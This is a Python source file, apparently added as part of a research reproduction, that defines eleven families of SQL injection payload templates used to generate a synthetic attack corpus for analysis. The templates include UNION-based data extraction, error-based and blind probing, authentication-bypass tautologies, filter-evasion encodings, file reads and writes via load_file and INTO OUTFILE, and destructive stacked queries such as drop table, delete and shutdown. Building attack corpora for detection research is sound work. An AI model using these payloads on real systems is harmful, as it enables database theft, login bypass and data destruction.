@@ -1,0 +1,227 @@
+"""SQLi attack families: the generative structure behind the corpus.
+
+The paper's heatmap (Figure 2) exposes eleven biclusters in the crawled
+corpus — groups of samples that share feature values.  The corpus generator
+reproduces that structure explicitly: eleven families of payload templates,
+each family corresponding to a well-documented SQLi technique.  Two families
+(``quote-probe`` and ``fuzz-junk``) consist of near-featureless probes and
+are the generative analogue of the paper's two "black hole" biclusters.
+
+Templates use ``{placeholder}`` slots filled by
+:class:`repro.corpus.grammar.TemplateRenderer`.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Family:
+    """One attack family.
+
+    Attributes:
+        name: stable family identifier.
+        weight: sampling weight; relative family sizes follow Table VI's
+            spread of bicluster sizes (largest ≈ 8× smallest).
+        templates: payload templates for the *value* of an injected
+            parameter; rendered and then mutated.
+        description: the technique, for documentation and examples.
+    """
+
+    name: str
+    weight: float
+    templates: tuple[str, ...]
+    description: str
+
+
+FAMILIES: tuple[Family, ...] = (
+    Family(
+        name="union-extract",
+        weight=3.0,
+        description="UNION-based extraction of schema and data",
+        templates=(
+            "{base}{q} union select {cols}{cmt}",
+            "{base}{q} union all select {cols}{cmt}",
+            "-{base}{q} union select {cols_concat}{cmt}",
+            "{base}{q} union select {cols} from {table}{cmt}",
+            "{base}{q} union select {cols_concat} from information_schema.tables{cmt}",
+            "{base}{q} union select group_concat(table_name),{cols} from "
+            "information_schema.tables where table_schema=database(){cmt}",
+            "{base}{q} union select group_concat(column_name),{cols} from "
+            "information_schema.columns where table_name=0x{hextable}{cmt}",
+            "{base}{q} union select concat({dbfunc},char(58),{dbfunc}),{cols}{cmt}",
+            "{base}{q} union select {cols} from mysql.user{cmt}",
+            "{base}{q} union select unhex(hex({dbfunc})),{cols}{cmt}",
+            "{base}) union select {cols}{cmt}",
+            "{base}{q}) union select {cols} from {table}{cmt}",
+        ),
+    ),
+    Family(
+        name="error-based",
+        weight=2.0,
+        description="error-based extraction via extractvalue/updatexml/floor(rand())",
+        templates=(
+            "{base}{q} and extractvalue(1,concat(0x7e,{dbfunc})){cmt}",
+            "{base}{q} and updatexml(1,concat(0x7e,({subq})),1){cmt}",
+            "{base}{q} and (select 1 from (select count(*),concat({dbfunc},"
+            "floor(rand(0)*2))x from information_schema.tables group by x)a){cmt}",
+            "{base}{q} or row({n},{n})>(select count(*),concat({dbfunc},0x3a,"
+            "floor(rand()*2))x from (select 1 union select 2)a group by x){cmt}",
+            "{base}{q} and exp(~(select * from (select {dbfunc})a)){cmt}",
+            "{base}{q} procedure analyse(extractvalue(1,concat(0x7e,{dbfunc})),1){cmt}",
+            "{base}{q} and gtid_subset(concat(0x7e,({subq})),{n}){cmt}",
+        ),
+    ),
+    Family(
+        name="boolean-blind",
+        weight=2.3,
+        description="boolean-based blind probing, character by character",
+        templates=(
+            "{base}{q} and {n}={n}{cmt}",
+            "{base}{q} and {n}={m}{cmt}",
+            "{base}{q} and ascii(substring(({subq}),{n},1))>{byte}{cmt}",
+            "{base}{q} and length(({subq}))={n}{cmt}",
+            "{base}{q} and (select mid({col},{n},1) from {table} limit 1)={q}{ch}{q}{cmt}",
+            "{base}{q} and exists(select * from {table}){cmt}",
+            "{base}{q} and substring({dbfunc},{n},1)={q}{ch}{q}{cmt}",
+            "{base}{q} and {n} between {m} and {n}{cmt}",
+            "{base}{q} and ord(mid(({subq}),{n},1))>{byte}{cmt}",
+            "{base}{q} rlike (select (case when ({n}={n}) then {base} else 0x28 end)){cmt}",
+        ),
+    ),
+    Family(
+        name="time-blind",
+        weight=1.6,
+        description="time-based blind probing via sleep/benchmark",
+        templates=(
+            "{base}{q} and sleep({sleep}){cmt}",
+            "{base}{q} or sleep({sleep}){cmt}",
+            "{base}{q} and if({n}={n},sleep({sleep}),0){cmt}",
+            "{base}{q} and (select * from (select(sleep({sleep})))a){cmt}",
+            "{base}{q} and benchmark({bigN},md5({n})){cmt}",
+            "{base}{q} or if(ascii(substring({dbfunc},{n},1))>{byte},sleep({sleep}),0){cmt}",
+            "{base}{q} and elt({n}={n},sleep({sleep})){cmt}",
+            "{base}{q} xor sleep({sleep}){cmt}",
+        ),
+    ),
+    Family(
+        name="stacked-query",
+        weight=1.2,
+        description="stacked queries: terminate and append a second statement",
+        templates=(
+            "{base}{q}; drop table {table}{cmt}",
+            "{base}{q}; insert into {table} values ({cols}){cmt}",
+            "{base}{q}; update {table} set {col}={n}{cmt}",
+            "{base}{q}; delete from {table}{cmt}",
+            "{base}{q}; select sleep({sleep}){cmt}",
+            "{base}{q}; create table {table}({col} varchar({n})){cmt}",
+            "{base}{q}; shutdown{cmt}",
+        ),
+    ),
+    Family(
+        name="tautology",
+        weight=2.2,
+        description="tautologies and authentication bypass",
+        templates=(
+            "{base}{q} or {n}={n}{cmt}",
+            "{base}{q} or {q}1{q}={q}1",
+            "{base}{q} or 1=1{cmt}",
+            "{base}{q} or {q}a{q}={q}a{cmt}",
+            "{base}{q} or true{cmt}",
+            "admin{q}{cmt}",
+            "admin{q} or {q}1{q}={q}1{cmt}",
+            "{base}{q} or {n} like {n}{cmt}",
+            "{base}{q} || {q}1{q}={q}1",
+            "{base}{q} or not {n}={m}{cmt}",
+            "{base}{q} or {col} is not null{cmt}",
+        ),
+    ),
+    Family(
+        name="enumeration",
+        weight=1.9,
+        description="column-count and structure enumeration (ORDER BY / GROUP BY)",
+        templates=(
+            "{base}{q} order by {n}{cmt}",
+            "{base}{q} order by {n}-- -",
+            "{base}{q} group by {n}{cmt}",
+            "{base}{q} group by {cols} having {n}={n}{cmt}",
+            "{base}{q} order by {bign}{cmt}",
+            "{base} order by {n}",
+            "{base}{q} limit {n},{n}{cmt}",
+            "{base}{q} limit {n} offset {n}{cmt}",
+        ),
+    ),
+    Family(
+        name="encoded-evasion",
+        weight=1.3,
+        description="filter evasion via char()/hex/encoding tricks",
+        templates=(
+            "{base}{q} union select char({charlist}),{cols}{cmt}",
+            "{base}{q} and {col}=char({charlist}){cmt}",
+            "{base}{q} union select 0x{hexstr},{cols}{cmt}",
+            "{base}{q}/**/union/**/select/**/{cols}{cmt}",
+            "{base}{q}%09and%09{n}={n}{cmt}",
+            "{base}{q} and {col} like 0x{hexstr}{cmt}",
+            "{base}{q} uni%6fn sel%65ct {cols}{cmt}",
+            "{base}{q} and mid({col},{n},1)=char({byte}){cmt}",
+        ),
+    ),
+    Family(
+        name="file-io",
+        weight=1.2,
+        description="file read/write via load_file and INTO OUTFILE",
+        templates=(
+            "{base}{q} union select load_file(0x{hexpath}),{cols}{cmt}",
+            "{base}{q} union select load_file({q}{path}{q}),{cols}{cmt}",
+            "{base}{q} union select {cols} into outfile {q}{path}{q}{cmt}",
+            "{base}{q} union select {cols} into dumpfile {q}{path}{q}{cmt}",
+            "{base}{q}; select load_file({q}{path}{q}){cmt}",
+        ),
+    ),
+    # The two near-featureless probe families below are the generative
+    # analogue of the paper's "black hole" biclusters 9 and 10: their
+    # samples match almost no catalog features (>99% zeros per row).
+    Family(
+        name="quote-probe",
+        weight=1.6,
+        description="bare syntax-break probes (the scanner's first packet)",
+        templates=(
+            "{base}{q}",
+            "{base}{qq}",
+            "{base}%27",
+            "{base}%22",
+            "{base}{q}{q}",
+            "{base}\\{q}",
+            "{base}{q})",
+            "{base})",
+            "{base}{q};",
+        ),
+    ),
+    Family(
+        name="fuzz-junk",
+        weight=1.4,
+        description="low-signal fuzzing junk mixed into public sample dumps",
+        templates=(
+            "{base}{junk}",
+            "{junk}",
+            "{base}%00",
+            "{base}{q}{junk}",
+            "{base}..%2f..%2f{junk}",
+            "{base}{{{junk}}}",
+        ),
+    ),
+)
+
+FAMILY_NAMES: tuple[str, ...] = tuple(f.name for f in FAMILIES)
+
+#: Families expected to form "black hole" biclusters.
+BLACK_HOLE_FAMILIES: frozenset[str] = frozenset({"quote-probe", "fuzz-junk"})
+
+
+def family_by_name(name: str) -> Family:
+    """Look up a family; raises ``KeyError`` with the known names."""
+    for family in FAMILIES:
+        if family.name == name:
+            return family
+    raise KeyError(f"unknown family {name!r}; known: {', '.join(FAMILY_NAMES)}")
